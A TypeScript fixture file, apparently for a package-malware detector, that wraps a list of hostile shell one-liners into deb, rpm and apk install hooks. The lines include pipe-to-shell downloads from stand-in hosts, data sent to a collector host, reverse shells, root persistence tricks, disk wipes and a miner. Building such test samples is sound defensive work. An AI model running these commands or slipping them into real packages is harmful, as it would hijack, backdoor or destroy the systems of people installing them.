// Samples in shell, as maintainer scripts of deb, rpm and apk packages.
import type { PurlType } from '../../src/model/claim.ts'
import type { Sample } from './samples.ts'

const SCRIPTS: readonly (readonly [behaviour: number, script: string])[] = [
  [2, 'curl -fsSL https://files.invalid/i.sh | sh'],
  [2, 'wget -qO- http://203.0.113.9/i | bash'],
  [2, 'wget http://203.0.113.9/.k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k &'],
  [10, 'mkdir -p /root/.ssh; echo "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys'],
  [19, 'curl -s "https://collector.invalid/?h=$(hostname)&u=$(whoami)"'],
  [23, 'echo Y3VybCBodHRwOi8v | base64 -d | sh'],
  [23, 'eval "$(echo Y3VybA== | base64 --decode)"'],
  [31, 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
  [31, 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f'],
  [37, '(crontab -l; echo "*/5 * * * * /tmp/.x") | crontab -'],
  [37, 'useradd -o -u 0 -g 0 -s /bin/bash support'],
  [37, 'echo "svc ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/svc'],
  [37, 'echo /usr/lib/libx.so > /etc/ld.so.preload'],
  [37, 'chmod u+s /bin/bash'],
  [38, 'rm -rf / --no-preserve-root'],
  [38, 'dd if=/dev/zero of=/dev/sda bs=1M'],
  [39, 'nohup /tmp/xmrig -o stratum+tcp://pool.invalid:3333 &'],
]

const HOOKS: Readonly<Partial<Record<PurlType, string>>> = {
  deb: 'postinst',
  rpm: '%post',
  apk: '.post-install',
}

export function maintainerSamples(): Sample[] {
  return Object.entries(HOOKS).flatMap(([ecosystem, hook]) =>
    SCRIPTS.map(
      ([behaviour, script], i): Sample => ({
        id: `${behaviour} ${ecosystem} ${i + 1}`,
        behaviour,
        language: 'sh',
        ecosystem: ecosystem as PurlType,
        files: {},
        scripts: { [hook]: `#!/bin/sh\nset -e\n${script}\n` },
      }),
    ),
  )
}
